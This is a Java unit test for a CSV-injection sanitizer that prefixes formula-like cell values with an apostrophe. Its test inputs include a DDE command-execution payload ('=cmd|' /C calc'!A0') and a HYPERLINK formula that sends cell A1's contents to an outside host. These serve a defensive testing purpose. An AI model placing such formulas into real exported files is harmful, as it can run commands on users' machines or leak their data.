package org.sparekey.application.audit;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** OWASP, "CSV Injection"; attacks row 32. */
class FormulaSafeTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u00a0=1",
        "\ufeff=1",
        "\u200b@x",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "﹦1",
        "−1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.net/?\"&A1,\"look\")"
      })
  void whatCouldBeAFormulaGetsAnApostrophe(String text) {
    assertThat(FormulaSafe.cell(text)).isEqualTo("'" + text);
  }

  @ParameterizedTest
  @ValueSource(strings = {"", " ", "standard/1", "192.0.2.7", "::1", "Mozilla/5.0 (=)", "a=b"})
  void whatCannotBeOneStaysAsItIs(String text) {
    assertThat(FormulaSafe.cell(text)).isEqualTo(text);
  }
}
